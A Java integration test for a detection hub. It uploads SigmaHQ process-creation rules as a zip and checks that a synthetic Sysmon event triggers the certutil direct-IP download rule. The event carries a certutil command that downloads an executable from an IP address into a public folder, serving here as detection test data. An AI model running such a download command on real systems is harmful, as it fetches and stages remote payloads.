package org.finres.detection;

import java.io.ByteArrayOutputStream;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

import org.finres.core.Actor;
import org.finres.core.InstitutionId;
import org.finres.core.InstitutionKind;
import org.finres.core.TokenScope;
import org.finres.testing.HubIntegrationTest;
import org.finres.testing.TestSector;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.simple.JdbcClient;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

/**
 * A SigmaHQ folder uploaded as a zip becomes part of the catalogue and detects on the live stream: what an operator
 * does with the community's rules (read from ../shared; skipped when it is absent).
 */
@HubIntegrationTest
class SigmaHqCatalogueIntegrationTests {

    private static final Path FOLDER = Path.of("../../shared/data/sigma/rules/rules/windows/process_creation");
    private static final String CERTUTIL_DIRECT_IP = "13e6fe51-d478-4c7e-b0f2-6da9b400a829";

    @LocalServerPort
    int port;
    @Autowired
    TestSector sector;
    @Autowired
    RuleCatalogue catalogue;
    @Autowired
    JdbcClient jdbc;

    final HttpClient http = HttpClient.newHttpClient();
    final JsonMapper json = JsonMapper.builder().build();

    @Test
    void aZippedSigmaHqFolderLoadsAndItsRulesDetectOnTheEventStream() throws Exception {
        Path folder = Files.isDirectory(FOLDER) ? FOLDER : Path.of("../shared/data/sigma/rules/rules/windows/process_creation");
        assumeTrue(Files.isDirectory(folder), "SigmaHQ rules not found in ../shared");
        List<Path> files;
        try (Stream<Path> s = Files.list(folder)) {
            files = s.filter(p -> p.toString().endsWith(".yml")).sorted().toList();
        }
        ByteArrayOutputStream zipped = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(zipped)) {
            for (Path f : files) {
                zip.putNextEntry(new ZipEntry("process_creation/" + f.getFileName()));
                zip.write(Files.readAllBytes(f));
                zip.closeEntry();
            }
        }
        String hubAdmin = sector.token(InstitutionId.HUB, TokenScope.ADMIN);
        HttpResponse<String> upload = http.send(HttpRequest.newBuilder(
                        URI.create("http://localhost:" + port + "/api/v1/detection/rules?scope=hub"))
                .header("Authorization", "Bearer " + hubAdmin).header("Content-Type", "application/zip")
                .POST(HttpRequest.BodyPublishers.ofByteArray(zipped.toByteArray())).build(),
                HttpResponse.BodyHandlers.ofString());
        assertThat(upload.statusCode()).as(upload.body()).isEqualTo(200);
        JsonNode report = json.readTree(upload.body());
        assertThat(report.get("files").asInt()).isEqualTo(files.size());
        int imported = report.get("imported").size();
        System.out.printf("SigmaHQ process_creation: %d files, %d documents imported, %d problems%n", files.size(),
                imported, report.get("problems").size());
        report.get("problems").forEach(p -> System.out.println("  " + p.stringValue()));
        assertThat(imported).isGreaterThan(files.size() * 9 / 10);
        report.get("problems").forEach(p -> assertThat(p.stringValue()).contains("process_creation/"));

        try {
            InstitutionId bank = sector.institution("sigmahq", InstitutionKind.BANK);
            String writer = sector.token(bank, TokenScope.EVENTS_WRITE);
            String event = "{\"Event\":{\"System\":{\"Provider\":{\"#attributes\":{\"Name\":\"Microsoft-Windows-Sysmon\"}},"
                    + "\"EventID\":1,\"Channel\":\"Microsoft-Windows-Sysmon/Operational\",\"Computer\":\"ws-hq-01\","
                    + "\"TimeCreated\":{\"#attributes\":{\"SystemTime\":\"" + Instant.now() + "\"}},\"EventRecordID\":"
                    + System.nanoTime() + "},\"EventData\":{\"Image\":\"C:\\\\Windows\\\\System32\\\\certutil.exe\","
                    + "\"OriginalFileName\":\"CertUtil.exe\",\"CommandLine\":\"certutil.exe -urlcache -split -f "
                    + "http://198.51.100.23/p.exe C:\\\\Users\\\\Public\\\\p.exe\",\"User\":\"BANK\\\\teller3\","
                    + "\"ParentImage\":\"C:\\\\Windows\\\\explorer.exe\"}}}";
            HttpResponse<String> sent = http.send(HttpRequest.newBuilder(URI.create("http://localhost:" + port + "/api/v1/events"))
                    .header("Authorization", "Bearer " + writer).header("Content-Type", "application/x-ndjson")
                    .POST(HttpRequest.BodyPublishers.ofString(event)).build(), HttpResponse.BodyHandlers.ofString());
            assertThat(sent.statusCode()).isEqualTo(202);
            Instant deadline = Instant.now().plus(Duration.ofSeconds(60));
            long found = 0;
            while (found == 0 && Instant.now().isBefore(deadline)) {
                Thread.sleep(300);
                found = jdbc.sql("select count(*) from detection_alert where institution_id = :i and rule_key = :k")
                        .param("i", bank.value()).param("k", CERTUTIL_DIRECT_IP).query(Long.class).single();
            }
            assertThat(found).as("the SigmaHQ rule %s raised an alert", CERTUTIL_DIRECT_IP).isEqualTo(1);
        } finally {
            // Later tests in this shared hub should not pay for a thousand extra rules.
            Actor.SystemProcess setup = new Actor.SystemProcess("test-setup");
            for (RuleEntry e : catalogue.list(setup, RuleScope.HUB, null)) {
                if (e.origin().startsWith("upload:process_creation/")) {
                    catalogue.setEnabled(setup, e.id(), false);
                }
            }
        }
    }
}
